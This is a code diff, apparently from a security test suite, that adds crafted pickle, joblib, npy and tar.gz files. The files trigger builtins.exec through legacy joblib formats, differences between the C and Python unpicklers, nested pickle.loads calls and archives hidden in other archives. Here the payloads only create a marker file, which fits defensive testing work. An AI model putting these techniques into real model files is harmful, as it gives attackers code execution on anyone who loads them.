@@ -17,6 +17,7 @@ import lzma
 import struct
 import tarfile
 import zipfile
+import zlib
 from collections.abc import Callable
 from dataclasses import dataclass
 from pathlib import Path
@@ -28,9 +29,21 @@ LOADERS: dict[str, str] = {
     "joblib.load": "import joblib\njoblib.load(path)\n",
     "numpy.load": "import numpy\nnumpy.load(path, allow_pickle=True)\n",
     "pandas.read_pickle": "import pandas\npandas.read_pickle(path)\n",
+    # A container shipped to be unpacked, each file then loaded: the way a release tarball is used.
+    "pandas.read_pickle of each extracted file": (
+        "import os, tarfile, pandas\nout = path + '.extracted'\nwith tarfile.open(path) as archive:\n"
+        "    archive.extractall(out, filter='data')\nfor name in sorted(os.listdir(out)):\n"
+        "    pandas.read_pickle(os.path.join(out, name))\n"
+    ),
 }
 #: The module each loader needs.
-LOADER_MODULES = {"torch.load": "torch", "joblib.load": "joblib", "numpy.load": "numpy", "pandas.read_pickle": "pandas"}
+LOADER_MODULES = {
+    "torch.load": "torch",
+    "joblib.load": "joblib",
+    "numpy.load": "numpy",
+    "pandas.read_pickle": "pandas",
+    "pandas.read_pickle of each extracted file": "pandas",
+}
 
 
 @dataclass(frozen=True)
@@ -245,6 +258,72 @@ def torch_zip_two_directories(marker: Path) -> bytes:
     return evil[:evil_end] + benign[:benign_cd] + bytes(directory) + bytes(record)
 
 
+def joblib_side_file(marker: Path) -> bytes:
+    """joblib's format before 0.10: an NDArrayWrapper names the file holding the array, and
+    joblib.load opens it with numpy.load(allow_pickle=True), wherever it is (an absolute name
+    leaves the checked folder). The side file, written next to the marker, is a plain pickle
+    (numpy.load's fallback runs it); the file handed to joblib.load imports nothing but the
+    wrapper and numpy's ndarray."""
+    side = marker.with_name("joblib-side-array.npy")
+    side.parent.mkdir(parents=True, exist_ok=True)
+    side.write_bytes(payload0(marker))
+    name = str(side).encode()
+    return (
+        b"\x80\x02cjoblib.numpy_pickle_compat\nNDArrayWrapper\nq\x00)\x81q\x01}q\x02(X\x08\x00\x00\x00filename"
+        + b"X"
+        + struct.pack("<I", len(name))
+        + name
+        + b"X\x08\x00\x00\x00subclasscnumpy\nndarray\nX\n\x00\x00\x00allow_mmap\x89ub."
+    )
+
+
+def _unterminated_inst(marker: Path) -> bytes:
+    """INST whose class name is the last line of the file, without its newline. C's unpickler
+    (pickle.load) stops there; Python's (pickle._Unpickler, which joblib.load uses) takes the
+    line without its last byte, and calls the class: builtins.exec runs."""
+    code = f"open({str(marker)!r}, 'w').close()"
+    return b"(V" + code.encode() + b"\nibuiltins\nexecX"
+
+
+def _short_frame(marker: Path) -> bytes:
+    """A FRAME announcing more bytes than the file holds: C's unpickler refuses it; Python's
+    (joblib.load) reads the bytes left as the frame and runs them."""
+    code = f"open({str(marker)!r}, 'w').close()".encode()
+    body = b"\x8c\x08builtins\x94\x8c\x04exec\x94\x93\x94\x8c" + bytes([len(code)]) + code + b"\x94\x85\x94R\x94."
+    return b"\x80\x04\x95" + struct.pack("<Q", len(body) + 4096) + body
+
+
+def _zip_behind_text_in_tar_gz(marker: Path) -> bytes:
+    """A release tarball (gzip) holding a model card that ends in a zip: unpacked, pandas reads
+    the member's zip (found from its end) and runs the pickle in it."""
+    inner = _zip_behind_text(marker)
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w") as archive:
+        info = tarfile.TarInfo("model.zip")
+        info.size = len(inner)
+        archive.addfile(info, io.BytesIO(inner))
+    return gzip.compress(buffer.getvalue())
+
+
+def _npy_object_nested(marker: Path) -> bytes:
+    """An object array whose pickle hands the payload's bytes to pickle.loads: numpy.load runs
+    both; the bytes are read like any stream's."""
+    inner = payload0(marker)
+    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
+    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
+    outer = b"\x80\x02cpickle\nloads\nB" + struct.pack("<I", len(inner)) + inner + b"\x85R."
+    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + outer
+
+
+def joblib_zfile(data: bytes) -> bytes:
+    """joblib's format before 0.10: "ZF", the length in hex padded to 19 characters, zlib data."""
+    return b"ZF" + f"{len(data):#x}".ljust(19).encode() + zlib.compress(data)
+
+
+def _joblib_zfile(marker: Path) -> bytes:
+    return joblib_zfile(payload0(marker))
+
+
 ATTACKS: list[LoaderAttack] = [
     LoaderAttack("gif-magic", "image.gif", "pickle.load", _gif, "builtins.exec"),
     LoaderAttack("ftyp-magic", "clip.mp4", "pickle.load", _ftyp, "builtins.exec"),
@@ -264,6 +343,18 @@ ATTACKS: list[LoaderAttack] = [
     LoaderAttack("joblib-dtype-by-name", "model.joblib", "joblib.load", joblib_dtype_by_name, "builtins.exec"),
     LoaderAttack("joblib-array-as-opcodes", "model.joblib", "pickle.load", joblib_array_as_opcodes, "builtins.exec"),
     LoaderAttack("nested-fan-out", "cache.pkl", "pickle.load", fan_out, "pickle.loads"),
+    LoaderAttack("npy-object-nested-loads", "objects.npy", "numpy.load", _npy_object_nested, "builtins.exec"),
+    LoaderAttack("joblib-zfile", "model.pkl", "joblib.load", _joblib_zfile, "builtins.exec"),
+    LoaderAttack("joblib-side-file", "model.joblib", "joblib.load", joblib_side_file, "side file"),
+    LoaderAttack("unterminated-inst", "model.joblib", "joblib.load", _unterminated_inst, "builtins.exec"),
+    LoaderAttack("short-frame", "model.joblib", "joblib.load", _short_frame, "builtins.exec"),
+    LoaderAttack(
+        "zip-behind-text-in-tar-gz",
+        "release.tar.gz",
+        "pandas.read_pickle of each extracted file",
+        _zip_behind_text_in_tar_gz,
+        "builtins.exec",
+    ),
     LoaderAttack(
         "torch-zip-two-directories", "model.pt", "torch.load", torch_zip_two_directories, "torch.load reads the one"
     ),
